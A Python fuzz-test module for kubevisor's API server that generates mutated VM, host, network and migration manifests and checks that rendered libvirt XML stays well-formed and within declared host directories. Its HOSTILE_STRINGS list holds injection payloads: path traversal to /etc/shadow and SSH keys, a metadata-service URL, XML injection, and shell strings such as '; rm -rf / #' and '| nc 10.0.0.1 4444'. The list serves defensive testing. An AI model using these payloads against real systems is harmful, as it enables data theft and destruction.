"""Generated manifests for the API-server fuzz suite (test_generated_inputs.py), and what
every object the API server accepts must then survive in kubevisor's own code.

The strategies are derived from the generated CRD schemas (kubevisor.api.crd, itself
derived from the pydantic models): every spec field of the four kinds is reachable.
A manifest is a valid seed (the deploy/examples and a few richer ones) with a few
mutations, each setting one field, anywhere in the spec, to a value its schema node
allows (types, enums, ranges, patterns, quantity and cpuset grammars) or to a hostile
one (huge numbers, wrong types, path tricks, XML and shell metacharacters, unicode,
runaway exponents, oversized strings), or adding an unknown field. Valid seeds keep
the share of accepted objects high, and accepted objects are what the checks are for.
"""

from __future__ import annotations

import copy
import dataclasses
import posixpath
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import yaml
from hypothesis import strategies as st

from kubevisor.api import cpuset, crd, quantity
from kubevisor.api.hypervisorhost import HypervisorHost
from kubevisor.api.schema import cel_is_cpuset, cel_is_quantity
from kubevisor.api.virtualmachine import (
    CellPlacement,
    HugepageAllocation,
    PciAssignment,
    PlacementStatus,
    VcpuPin,
    VirtualMachine,
    VirtualMachineStatus,
)
from kubevisor.core import hostpaths
from kubevisor.core.domain import converter, identity
from kubevisor.core.domain import host as domainhost
from kubevisor.core.domain.document import DomainError
from kubevisor.core.placement import inputs, scheduler
from kubevisor.core.placement.state import PlacementState

REPO = Path(__file__).resolve().parents[2]
Json = Any
FieldPath = tuple[str, ...]  # property names, "[]" for "an element of this list"

# ---- the schema ------------------------------------------------------------------------

SPEC_SCHEMAS: Final[dict[str, dict[str, Any]]] = {
    definition["spec"]["names"]["kind"]: definition["spec"]["versions"][0]["schema"][
        "openAPIV3Schema"
    ]["properties"]["spec"]
    for definition in crd.definitions()
}


def schema_paths(
    node: dict[str, Any], path: FieldPath = ()
) -> list[tuple[FieldPath, dict[str, Any]]]:
    """Every field under `node`, with the schema node at its path."""
    found = [(path, node)] if path else []
    for name, child in node.get("properties", {}).items():
        found += schema_paths(child, (*path, name))
    if isinstance(node.get("items"), dict):
        found += schema_paths(node["items"], (*path, "[]"))
    return found


PATHS: Final = {kind: schema_paths(schema) for kind, schema in SPEC_SCHEMAS.items()}


def node_at(kind: str, path: FieldPath) -> dict[str, Any]:
    node = SPEC_SCHEMAS[kind]
    for step in path:
        node = node["items"] if step == "[]" else node["properties"][step]
    return node


# ---- values a schema node allows -------------------------------------------------------

_MATCHES = re.compile(r"^self\.matches\(r'\^(.*)\$'\)$")

QUANTITIES = st.one_of(
    st.builds(
        "{}{}".format,
        st.integers(1, 4096),
        st.sampled_from(["Mi", "Gi", "Ki", "M", "G", "Ti", ""]),
    ),
    st.from_regex(quantity.PATTERN.removeprefix("^").removesuffix("$"), fullmatch=True),
)

CPUSETS = st.one_of(
    st.builds(
        lambda low, width: f"{low}-{low + width}" if width else str(low),
        st.integers(0, 255),
        st.integers(0, 31),
    ),
    st.lists(st.integers(0, cpuset.MAX_CPUS - 1), min_size=1, max_size=8).map(cpuset.render),
    st.from_regex(cpuset.PATTERN.removeprefix("^").removesuffix("$"), fullmatch=True),
)


def _rules(node: dict[str, Any]) -> list[str]:
    return [entry["rule"] for entry in node.get("x-kubernetes-validations", [])]


def _string(node: dict[str, Any]) -> st.SearchStrategy[str]:
    rules = _rules(node)
    if cel_is_quantity("self") in rules:
        return QUANTITIES
    if cel_is_cpuset("self") in rules:
        return CPUSETS
    limit = min(node.get("maxLength", 64), 64)
    pattern = node.get("pattern") or next(
        (m[1] for m in map(_MATCHES.match, rules) if m is not None), None
    )
    if pattern is not None and pattern.endswith("$"):
        regex = pattern.removeprefix("^").removesuffix("$")
        return st.from_regex(regex, fullmatch=True).filter(lambda s: len(s) <= limit)
    if pattern is not None:  # a prefix, such as an absolute path's "^/"
        return st.from_regex(pattern).filter(lambda s: len(s) <= limit)
    if node.get("format") == "date-time":
        return st.just("2026-01-02T03:04:05Z")
    return st.text(min_size=node.get("minLength", 0), max_size=limit)


def value_for(node: dict[str, Any]) -> st.SearchStrategy[Json]:
    """A value `node` allows by its own keywords (cross-field CEL rules aside)."""
    if "enum" in node:
        return st.sampled_from(node["enum"])
    kind = node["type"]
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        low = node.get("minimum", -(2**63)) + (1 if node.get("exclusiveMinimum") else 0)
        return st.integers(low, node.get("maximum", 2**63 - 1))
    if kind == "number":
        low = node.get("minimum", -1e308)
        return st.floats(
            low,
            node.get("maximum", 1e308),
            exclude_min=bool(node.get("exclusiveMinimum")),
            allow_nan=False,
            allow_infinity=False,
        )
    if kind == "string":
        return _string(node)
    if kind == "array":
        return st.lists(
            value_for(node["items"]),
            min_size=node.get("minItems", 0),
            max_size=max(min(node.get("maxItems", 3), 3), node.get("minItems", 0)),
        )
    if isinstance(node.get("additionalProperties"), dict):
        return st.dictionaries(
            st.from_regex(r"[a-z0-9]([-a-z0-9.]{0,20}[a-z0-9])?(/[a-z0-9]{1,10})?", fullmatch=True),
            value_for(node["additionalProperties"]),
            max_size=3,
        )
    properties = node.get("properties", {})
    required = set(node.get("required", []))
    return st.fixed_dictionaries(
        {name: value_for(child) for name, child in properties.items() if name in required},
        optional={
            name: value_for(child) for name, child in properties.items() if name not in required
        },
    )


# ---- hostile values --------------------------------------------------------------------

HOSTILE_STRINGS: Final = (
    "",
    " ",
    "/",
    "..",
    "../../etc/shadow",
    "/etc/shadow",
    "/dev/sda",
    "/proc/self/root",
    "images/../../../etc/passwd",
    "/var/lib/kubevisor/boot/../../../../etc/shadow",
    "/var/lib/kubevisor/rootfs",
    "/var/lib/kubevisor/rootfs/",
    "/var/lib/kubevisor/rootfs/.",
    "/var/lib/kubevisor/bootleg/vmlinuz",
    "//server/share",
    "~root/.ssh/id_rsa",
    "file:///etc/shadow",
    "http://169.254.169.254/latest/meta-data/",
    "https://127.0.0.1:6443/api",
    "<domain type='kvm'><name>x</name></domain>",
    "]]><inject/>",
    "&xxe;",
    "\"'></source><source file='/etc/shadow'/>",
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| nc 10.0.0.1 4444",
    "a\x00b",
    "line\nbreak",
    "\r\n",
    "\u202etxt.exe",
    "\u200b",
    "\ufeff",
    "\U0001f427",
    "\u00e9\u00df\u4e2d",
    "no\u00a0break",
    "\uffff",
    "\u2028",
    "tab\there",
    "\x7f",
    "1e999999999",
    "1e999999999.0",
    "-1Gi",
    "9Ei",
    "0-4294967295",
    "7-2",
    "NaN",
    "Infinity",
    "a" * 4097,
    "b" * 65537,
)
HOSTILE_NUMBERS: Final = (-1, 0, 2**31, 2**63 - 1, 2**63, 2**64, -(2**63), 1e308, -1e308, 0.5)
WRONG_TYPES: Final[tuple[Json, ...]] = (None, True, [], {}, "1", [1], {"a": 1}, [{"b": []}])


def hostile_for(node: dict[str, Any]) -> st.SearchStrategy[Json]:
    """A value meant to break the field at `node`: of its type but absurd, or of another."""
    anything = st.sampled_from(WRONG_TYPES + HOSTILE_NUMBERS + HOSTILE_STRINGS)
    kind = node["type"]
    if kind == "string":
        return st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=300), anything)
    if kind in ("integer", "number"):
        return st.one_of(st.sampled_from(HOSTILE_NUMBERS), anything)
    if kind == "array" and isinstance(node.get("items"), dict):
        many = node.get("maxItems", 8) + 1
        return st.one_of(
            value_for(node["items"]).map(lambda item: [item] * many),
            st.lists(hostile_for(node["items"]), min_size=1, max_size=3),
            anything,
        )
    return anything


# ---- manifests -------------------------------------------------------------------------

_RICH_SEEDS: Final[dict[str, list[dict[str, Any]]]] = {
    "VirtualMachine": [
        {
            "cpu": {"vcpus": 2, "policy": "dedicated", "isolateEmulatorThread": True},
            "memory": {"size": "256Mi", "hugepages": {"pageSize": "2Mi"}},
            "numa": {"cells": [{"cpus": [0], "memory": "128Mi"}, {"cpus": [1], "memory": "128Mi"}]},
            "disks": [
                {"name": "root", "image": "debian-12.qcow2", "size": "10Gi"},
                {
                    "name": "data",
                    "source": {"url": "https://images.example.org/data.qcow2", "sha256": "a" * 64},
                },
            ],
            "networks": [{"name": "net0"}, {"name": "net1", "type": "bridge", "source": "br0"}],
            "cloudInit": {"userData": "#cloud-config\n"},
            "firmware": {"type": "uefi", "secureBoot": True},
            "devices": {"pci": [{"alias": "gpu", "count": 1}]},
            "placement": {"group": "db", "policy": "anti-affinity", "maxPerHost": 2},
        },
        {
            "cpu": {"vcpus": 1, "tune": {"shares": 512}},
            "memory": {"size": "64Mi"},
            "hypervisor": {"type": "lxc"},
            "container": {"rootfs": "/var/lib/kubevisor/rootfs/busybox", "init": ["/sbin/init"]},
        },
        {
            "memory": {"size": "128Mi", "balloon": {"statsPeriodSeconds": 5}},
            "boot": {
                "kernel": "/var/lib/kubevisor/boot/vmlinuz",
                "initrd": "/var/lib/kubevisor/boot/initrd.img",
                "cmdline": "ro",
            },
            "security": {"requireConfinement": True},
            "placement": {"hostSelector": {"kubevisor.io/zone": "a"}},
        },
    ],
    "HypervisorHost": [
        {
            "pciPassthrough": [{"vendorId": "8086", "productId": "154c", "alias": "vf"}],
            "sharedStorage": {"name": "nfs", "path": "/srv/kubevisor"},
            "unschedulable": True,
        },
    ],
    "MigrationJob": [
        {"vm": "web-0", "targetHost": "host-b", "options": {"bandwidthMiBps": 100}},
    ],
    "Network": [
        {
            "type": "provider",
            "provider": {"physicalNetwork": "physnet1", "vlan": 120},
            "subnet": {
                "cidr": "192.168.0.0/16",
                "gateway": "192.168.0.1",
                "dnsServers": ["192.168.0.2", "192.168.0.3"],
                "allocationPools": [
                    {"start": "192.168.1.0", "end": "192.168.1.255"},
                    {"start": "192.168.3.10", "end": "192.168.3.20"},
                ],
                "reserved": ["192.168.1.1", "192.168.3.15"],
            },
            "dhcp": False,
        },
        {"type": "overlay", "overlay": {"vni": 100}, "subnet": {"cidr": "10.0.0.0/30"}},
    ],
}


def _example_seeds() -> dict[str, list[dict[str, Any]]]:
    seeds: dict[str, list[dict[str, Any]]] = {kind: [] for kind in SPEC_SCHEMAS}
    for path in sorted((REPO / "deploy" / "examples").glob("*.yaml")):
        for document in yaml.safe_load_all(path.read_text()):
            if document:
                seeds[document["kind"]].append(document["spec"])
    return seeds


SEEDS: Final = {kind: _example_seeds()[kind] + _RICH_SEEDS.get(kind, []) for kind in SPEC_SCHEMAS}


def _container_for(node: dict[str, Any]) -> Json:
    return [] if node["type"] == "array" else {}


@st.composite
def _mutate(draw: st.DrawFn, kind: str, spec: dict[str, Any]) -> None:
    path, node = draw(st.sampled_from(PATHS[kind]))
    if draw(st.integers(0, 9)) < 2 and node["type"] == "object" and "properties" in node:
        key = draw(st.from_regex(r"[a-zA-Z_][a-zA-Z0-9_]{0,15}", fullmatch=True))
        if key not in node["properties"]:
            path, value = (*path, key), draw(st.sampled_from(WRONG_TYPES + HOSTILE_STRINGS))
            _set(draw, kind, spec, path, value)
            return
    hostile = draw(st.integers(0, 9)) < 4
    value = draw(hostile_for(node) if hostile else value_for(node))
    _set(draw, kind, spec, path, value)


def _set(draw: st.DrawFn, kind: str, spec: dict[str, Any], path: FieldPath, value: Json) -> None:
    target: Json = spec
    for depth, step in enumerate(path[:-1]):
        following = path[depth + 1]
        if step == "[]":
            if not isinstance(target, list):
                return
            if not target:
                target.append(draw(value_for(node_at(kind, path[: depth + 1]))))
            target = target[draw(st.integers(0, len(target) - 1))]
            continue
        if not isinstance(target, dict):
            return
        child = node_at(kind, path[: depth + 1])
        if not isinstance(target.get(step), dict | list):
            target[step] = [] if following == "[]" else _container_for(child)
        target = target[step]
    last = path[-1]
    if last == "[]":
        if isinstance(target, list):
            if target:
                target[draw(st.integers(0, len(target) - 1))] = value
            else:
                target.append(value)
    elif isinstance(target, dict):
        target[last] = value


NAMESPACE: Final = "fuzz"


@st.composite
def manifests(draw: st.DrawFn, kind: str) -> dict[str, Any]:
    """A whole object of `kind`: a seed's spec with 0..3 mutations, sometimes a hostile
    name, labels, a status the server must drop or unknown top-level fields."""
    spec = copy.deepcopy(draw(st.sampled_from(SEEDS[kind])))
    for _ in range(draw(st.integers(0, 3))):
        draw(_mutate(kind, spec))
    name = draw(
        st.one_of(
            st.just("fuzz"),
            st.from_regex(r"[a-z0-9]([-a-z0-9]{0,30}[a-z0-9])?", fullmatch=True),
            st.sampled_from(HOSTILE_STRINGS),
        )
    )
    manifest: dict[str, Any] = {
        "apiVersion": "kubevisor.io/v1alpha1",
        "kind": kind,
        "metadata": {"name": name, "labels": {"kubevisor.io/test": "fuzz"}},
        "spec": spec,
    }
    extra = draw(st.sampled_from(["", "", "", "", "status", "unknown"]))
    if extra == "status":
        manifest["status"] = {"phase": "Running", "host": "/etc/shadow"}
    elif extra == "unknown":
        manifest["specification"] = draw(st.sampled_from(WRONG_TYPES + HOSTILE_STRINGS))
    return manifest


# ---- what an accepted object must survive ----------------------------------------------

# Directories the synthetic host of the render check declares: every file a rendered
# domain names must be in these, whatever path the spec gave (DOMAIN_CHECKS).
STATE_DIR: Final = "/var/lib/kubevisor"
BOOT_DIR: Final = f"{STATE_DIR}/boot"
ROOTFS_DIR: Final = f"{STATE_DIR}/rootfs"
DECLARED_DIRECTORIES: Final = (STATE_DIR, "/usr/share/OVMF")
ALLOWED: Final = hostpaths.Allowed(boot=(BOOT_DIR,), rootfs=(ROOTFS_DIR,))
"""What the synthetic host's agent allows a spec's boot files and root filesystem in."""


@dataclass(frozen=True)
class Rendered:
    """One domain rendered for an accepted VM: what DOMAIN_CHECKS look at."""

    vm: VirtualMachine
    host: domainhost.HostEnvironment
    xml: str


def well_formed_domain(rendered: Rendered) -> None:
    """The XML parses as one domain named after the VM: no value broke out of its place."""
    root = ET.fromstring(rendered.xml)
    assert root.tag == "domain"
    meta = rendered.vm.metadata
    assert root.findtext("name") == identity.domain_name(meta["namespace"], meta["name"])


# Where a domain names a host file or directory: these elements' text, and these
# attributes of any element but a <target> (the guest's side, e.g. a container's
# <target dir="/">): <source file/dir>, <log file>, <nvram template>. Not "dev": kubevisor
# renders no host block device, and <boot dev="hd"> or <target dev="vda"> are no paths.
PATH_TEXTS: Final = ("os/kernel", "os/initrd", "os/loader", "os/nvram")
PATH_ATTRIBUTES: Final = ("file", "dir", "path", "template")


def host_paths(xml: str) -> list[str]:
    """Every host path the domain `xml` names."""
    root = ET.fromstring(xml)
    found = [text for path in PATH_TEXTS for e in root.findall(path) if (text := e.text)]
    hosts = [e for e in root.iter() if e.tag != "target"]
    found += [e.get(a, "") for e in hosts for a in PATH_ATTRIBUTES if e.get(a)]
    return found


def only_declared_directories(rendered: Rendered) -> None:
    """The domain names no host path outside DECLARED_DIRECTORIES, nor one that only
    looks inside ('..', '//'): whatever the spec said (issue 16, host paths from a tenant)."""
    for path in host_paths(rendered.xml):
        assert posixpath.normpath(path) == path and path.startswith("/"), path
        assert any(hostpaths.inside(path, d) for d in DECLARED_DIRECTORIES), path


# Every rendered domain must pass each of these: the extension point for properties of
# the XML; append a function of Rendered that raises AssertionError.
DOMAIN_CHECKS: list[Callable[[Rendered], None]] = [
    well_formed_domain,
    only_declared_directories,
]


def _vm_dir(vm: VirtualMachine) -> str:
    meta = vm.metadata
    return f"{STATE_DIR}/vms/{identity.domain_name(meta['namespace'], meta['name'])}"


def host_environment(vm: VirtualMachine) -> domainhost.HostEnvironment:
    """What an agent would have prepared on a host of the right type for `vm`."""
    spec, directory = vm.spec, _vm_dir(vm)
    return domainhost.HostEnvironment(
        domain_type="lxc" if spec.container is not None else "kvm",
        disk_paths={disk.name: f"{directory}/{disk.name}.qcow2" for disk in spec.disks},
        seed_iso=f"{directory}/seed.iso" if spec.cloud_init is not None else None,
        serial_log=f"{directory}/console.log",
        default_boot=domainhost.BootFiles(
            kernel=f"{BOOT_DIR}/vmlinuz", initrd=f"{BOOT_DIR}/initrd"
        ),
        nvram=f"{directory}/nvram.fd",
        vhost_net=True,
        cgroup_controllers=frozenset({"cpu", "cpuset", "memory"}),
        security_model="apparmor",
    )


def _cells(count: int) -> list[dict[str, Any]]:
    return [
        {
            "id": cell,
            "cpus": list(range(cell * 32, cell * 32 + 32)),
            "siblings": [[cpu, cpu + 1] for cpu in range(cell * 32, cell * 32 + 32, 2)],
            "memory": "512Gi",
            "hugepages": [
                {"pageSize": "2Mi", "total": 262144, "free": 262144},
                {"pageSize": "1Gi", "total": 256, "free": 256},
            ],
        }
        for cell in range(count)
    ]


def big_host(vm: VirtualMachine) -> HypervisorHost:
    """A ready host of the VM's type with room for most VMs the schema allows."""
    aliases = [r.alias for r in vm.spec.devices.pci] if vm.spec.devices is not None else []
    labels = (vm.spec.placement.host_selector or {}) if vm.spec.placement is not None else {}
    kind = "lxc" if vm.spec.container is not None else "kvm"
    if vm.spec.hypervisor is not None and kind not in vm.spec.hypervisor.accepted:
        kind = sorted(vm.spec.hypervisor.accepted)[0]
    return HypervisorHost.model_validate(
        {
            "metadata": {"name": "big", "labels": labels},
            "spec": {
                "cpuSharedSet": "0-31",
                "cpuDedicatedSet": "32-255",
                # The host's admin offers every host network the VM names.
                "hostNetworks": sorted({n.source for n in vm.spec.networks if n.source}),
            },
            "status": {
                "hypervisor": {"type": kind},
                "cpu": {"features": list(vm.spec.cpu.features)},
                "capacity": {"cpu": 256, "memory": "4Ti", "disk": "1Pi"},
                "numaCells": _cells(8),
                "capabilities": {
                    "uefi": True,
                    "secureBoot": True,
                    "vhostNet": True,
                    "securityDriver": "apparmor",
                    "seccompSandbox": True,
                    "cgroupControllers": ["cpu", "cpuset", "memory"],
                },
                "pciDevices": [
                    {
                        "address": f"0000:{index:02x}:{slot:02x}.0",
                        "vendorId": "10de",
                        "productId": "1eb8",
                        "numaCell": 0,
                        "alias": alias,
                    }
                    for index, alias in enumerate(aliases)
                    for slot in range(8)
                ],
                "conditions": [{"type": "Ready", "status": "True"}],
            },
        }
    )


def _synthetic_placement(vm: VirtualMachine) -> PlacementStatus:
    """A placement consistent with the spec, for VMs no synthetic host fits (4Ei of
    memory, 256 dedicated vCPUs and an emulator thread, a vmware-only type ...)."""
    spec = vm.spec
    dedicated = spec.cpu.policy == "dedicated"
    guest = (
        [(set(cell.cpus), cell.memory) for cell in spec.numa.cells]
        if spec.numa is not None
        else [(set(range(spec.cpu.vcpus)), spec.memory.size)]
    )
    page = spec.memory.hugepages.page_size if spec.memory.hugepages is not None else None
    return PlacementStatus(
        cells=[
            CellPlacement(
                guest_cell=index,
                host_cell=index,
                vcpu_pins=[VcpuPin(vcpu=v, pcpu=v) for v in sorted(cpus)] if dedicated else [],
                memory=memory,
                hugepages=HugepageAllocation(
                    page_size=page, count=quantity.to_bytes(memory) // quantity.to_bytes(page)
                )
                if page is not None
                else None,
            )
            for index, (cpus, memory) in enumerate(guest)
        ],
        emulator_pins=[spec.cpu.vcpus] if spec.cpu.isolate_emulator_thread else [],
        shared_cpus=[] if dedicated else [0, 1, 2, 3],
        pci_devices=[
            PciAssignment(alias=request.alias, address=f"0000:{index:02x}:{slot:02x}.0")
            for index, request in enumerate(spec.devices.pci if spec.devices else [])
            for slot in range(request.count)
        ],
    )


def placed(vm: VirtualMachine) -> tuple[VirtualMachine, bool]:
    """`vm` with status.placement from kubevisor's placement on big_host(vm), or a
    synthetic one when it fits nowhere; and whether placement found it a host."""
    host = inputs.host_snapshot(big_host(vm))
    decision = scheduler.select_host(PlacementState.rebuild([host], []), inputs.request(vm))
    if isinstance(decision, scheduler.Decision):
        placement = inputs.placement_status(decision.numa) or PlacementStatus()
    else:
        placement = _synthetic_placement(vm)
    status = (vm.status or VirtualMachineStatus()).model_copy(update={"placement": placement})
    return vm.model_copy(update={"status": status}), isinstance(decision, scheduler.Decision)


def render(vm: VirtualMachine) -> Rendered | DomainError | hostpaths.Refusal:
    """The domain of an accepted VM, as the agent renders it: its host paths resolved
    inside ALLOWED first (the Refusal the VM fails with otherwise; the synthetic host has
    no symlinks), then the DomainError that names why this host type cannot run it (only
    containers may have one: see container_unsupported)."""
    resolved = hostpaths.resolve_spec(vm.spec, ALLOWED, realpath=posixpath.normpath)
    if isinstance(resolved, hostpaths.Refusal):
        return resolved
    host = dataclasses.replace(host_environment(vm), host_paths=resolved)
    try:
        return Rendered(vm, host, converter.render(vm, host=host))
    except DomainError as refused:
        return refused


def check_rendered(rendered: Rendered, checks: Sequence[Callable[[Rendered], None]]) -> None:
    for check in checks:
        check(rendered)
